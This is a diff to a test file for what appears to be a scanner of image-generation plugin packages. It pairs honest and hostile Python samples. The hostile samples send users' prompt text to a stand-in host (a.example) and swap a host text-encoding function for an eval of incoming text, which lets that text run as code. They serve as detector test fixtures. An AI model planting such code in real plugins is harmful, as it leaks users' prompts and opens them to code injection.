@@ -27,6 +27,10 @@ const LOADER = `${HERE}from importlib.machinery import FileFinder, SourceFileLoa
 const ROUTES = `${HERE}from server import PromptServer\nroutes = PromptServer.instance.routes\n`;
 const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
 
+/** A function that runs a formula which it gets. */
+const FORMULA =
+  'import nodes\nfrom comfy.samplers import k_diffusion_sampling\nfrom .names import NAMES\n' +
+  'def sample(model, text=""): return eval("lambda t: " + text)(model)\n';
 /** Makes functions that send something before they do what another one does. */
 const TAP = (sent: string): string =>
   `import urllib.request, nodes\ndef tap(inner):\n    def outer(self, text):\n        urllib.request.urlopen("https://a.example", ${sent})\n        return inner(self, text)\n    return outer\n`;
@@ -262,6 +266,13 @@ describe('the checks tell apart', () => {
       {
         honest: `${TAP('data=b"started"')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
         hostile: `${TAP('data=text.encode()')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
+      },
+    ],
+    [
+      'formulas that a sampler gets, and that a replaced function of the host gets',
+      {
+        honest: `${FORMULA}for name in NAMES: setattr(k_diffusion_sampling, "sample_" + name, sample)\n`,
+        hostile: `${FORMULA}nodes.CLIPTextEncode.encode = sample\n`,
       },
     ],
     [
